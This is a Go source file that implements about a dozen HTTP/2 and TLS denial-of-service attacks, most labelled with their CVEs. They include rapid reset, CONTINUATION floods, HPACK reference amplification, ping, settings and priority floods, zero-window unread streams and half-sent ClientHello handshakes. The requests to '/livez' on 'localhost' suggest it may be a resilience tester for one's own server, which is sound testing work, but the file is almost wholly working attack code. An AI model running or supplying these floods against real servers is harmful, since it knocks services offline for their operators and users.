package main

import (
	"bytes"
	"crypto/tls"
	"encoding/binary"
	"io"
	"net"
	"strconv"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// target is one connection to attack.
type target struct {
	raw   net.Conn
	until time.Time
	pause time.Duration
}

type attackFunc func(*target)

// attacks are the known classes, each with the CVE that made it known where there is one.
var attacks = map[string]attackFunc{
	"rapid-reset":      frames(http2.SettingMaxFrameSize, 16384, rapidReset),      // CVE-2023-44487
	"provoked-resets":  frames(http2.SettingMaxFrameSize, 16384, provokedResets),  // CVE-2025-8671
	"continuation":     frames(http2.SettingMaxFrameSize, 16384, continuation),    // CVE-2024-27316
	"hpack-references": frames(http2.SettingMaxFrameSize, 16384, hpackReferences), // CVE-2016-6581
	"many-fields":      frames(http2.SettingMaxFrameSize, 16384, manyFields),
	"ping-flood":       frames(http2.SettingMaxFrameSize, 16384, pings),      // CVE-2019-9512
	"settings-flood":   frames(http2.SettingMaxFrameSize, 16384, settings),   // CVE-2019-9515
	"priority-flood":   frames(http2.SettingMaxFrameSize, 16384, priorities), // CVE-2019-9513
	"empty-data":       frames(http2.SettingMaxFrameSize, 16384, emptyData),  // CVE-2019-9518
	"unread-streams":   frames(http2.SettingInitialWindowSize, 0, unread),    // CVE-2019-9517
	"requests":         frames(http2.SettingMaxFrameSize, 16384, requests),
	"slow-handshakes":  slowHandshake,
}

// flood writes the frames that `next` appends, again and again, until the connection fails.
type flood struct {
	framer *http2.Framer
	block  bytes.Buffer
	hpack  *hpack.Encoder
	stream uint32
}

func (f *flood) nextStream() uint32 {
	f.stream += 2
	return f.stream - 2
}

// fields encodes a request for /livez with more fields behind it, without the dynamic table.
func (f *flood) fields(method string, more ...hpack.HeaderField) []byte {
	f.block.Reset()
	for _, field := range append([]hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"}, {Name: ":path", Value: "/livez"},
		{Name: ":authority", Value: "localhost"},
	}, more...) {
		field.Sensitive = true
		_ = f.hpack.WriteField(field)
	}
	return f.block.Bytes()
}

// frames makes an attack of a function that writes one round of frames: many rounds are sent with one write.
func frames(setting http2.SettingID, value uint32, round func(*flood) error) attackFunc {
	return func(t *target) {
		config := clientTLS("h2")
		conn := tls.Client(t.raw, config)
		if conn.Handshake() != nil || conn.ConnectionState().NegotiatedProtocol != "h2" {
			refused.Add(1)
			return
		}
		closed := make(chan struct{})
		go func() {
			// What the server says is dropped; when it closes, so is the attack.
			_, _ = io.Copy(io.Discard, conn)
			_ = t.raw.Close()
			close(closed)
		}()
		defer func() {
			_ = t.raw.Close()
			<-closed
		}()
		var out bytes.Buffer
		f := &flood{framer: http2.NewFramer(&out, nil), stream: 1}
		f.framer.AllowIllegalWrites = true
		f.hpack = hpack.NewEncoder(&f.block)
		out.WriteString(http2.ClientPreface)
		_ = f.framer.WriteSettings(http2.Setting{ID: setting, Val: value})
		for time.Now().Before(t.until) && f.stream < 1<<31-1000 {
			before := out.Len()
			for out.Len()-before < 32<<10 {
				if round(f) != nil {
					return
				}
				if t.pause > 0 {
					break
				}
			}
			written, err := conn.Write(out.Bytes())
			sent.Add(int64(written))
			if err != nil {
				return
			}
			out.Reset()
			if t.pause > 0 {
				time.Sleep(t.pause)
			}
		}
	}
}

func headers(f *flood, stream uint32, block []byte, endStream bool) error {
	return f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndStream: endStream, EndHeaders: true})
}

func rapidReset(f *flood) error {
	stream := f.nextStream()
	if err := headers(f, stream, f.fields("GET"), true); err != nil {
		return err
	}
	return f.framer.WriteRSTStream(stream, http2.ErrCodeCancel)
}

// provokedResets makes the server reset: a window is widened by nothing.
func provokedResets(f *flood) error {
	stream := f.nextStream()
	if err := headers(f, stream, f.fields("GET"), true); err != nil {
		return err
	}
	return f.framer.WriteRawFrame(http2.FrameWindowUpdate, 0, stream, make([]byte, 4))
}

func continuation(f *flood) error {
	if f.stream == 1 {
		stream := f.nextStream()
		return f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.fields("GET"), EndHeaders: false})
	}
	f.block.Reset()
	for range 100 {
		_ = f.hpack.WriteField(hpack.HeaderField{Name: "x", Value: "y", Sensitive: true})
	}
	return f.framer.WriteContinuation(1, false, f.block.Bytes())
}

// hpackReferences: a field of 4 KB goes into the table once, and each byte of a request stands for it.
func hpackReferences(f *flood) error {
	stream := f.nextStream()
	block := append([]byte(nil), f.fields("GET")...)
	if stream == 1 {
		f.block.Reset()
		_ = f.hpack.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("v", 4000)})
		block = append(block, f.block.Bytes()...)
	} else {
		block = append(block, bytes.Repeat([]byte{0x80 | 62}, 60)...)
	}
	return headers(f, stream, block, true)
}

func manyFields(f *flood) error {
	stream := f.nextStream()
	more := make([]hpack.HeaderField, 0, 1000)
	for n := range 1000 {
		more = append(more, hpack.HeaderField{Name: "x" + strconv.Itoa(n), Value: "y"})
	}
	return headers(f, stream, f.fields("GET", more...), true)
}

func pings(f *flood) error { return f.framer.WritePing(false, [8]byte{}) }

func settings(f *flood) error {
	return f.framer.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 16384})
}

func priorities(f *flood) error {
	return f.framer.WritePriority(f.nextStream(), http2.PriorityParam{StreamDep: 0, Weight: 1})
}

func emptyData(f *flood) error {
	if f.stream == 1 {
		return headers(f, f.nextStream(), f.fields("POST"), false)
	}
	return f.framer.WriteData(1, false, nil)
}

// unread asks and never opens a window for the answer.
func unread(f *flood) error { return headers(f, f.nextStream(), f.fields("GET"), true) }

// requests are ordinary ones, as many as the server takes: what any client could send.
func requests(f *flood) error { return headers(f, f.nextStream(), f.fields("GET"), true) }

// slowHandshake sends half of a ClientHello and waits.
func slowHandshake(t *target) {
	hello := make([]byte, 5+200)
	copy(hello, []byte{22, 3, 1})
	binary.BigEndian.PutUint16(hello[3:], 400)
	hello[5] = 1
	written, err := t.raw.Write(hello)
	sent.Add(int64(written))
	if err != nil {
		return
	}
	_, _ = io.Copy(io.Discard, t.raw)
}
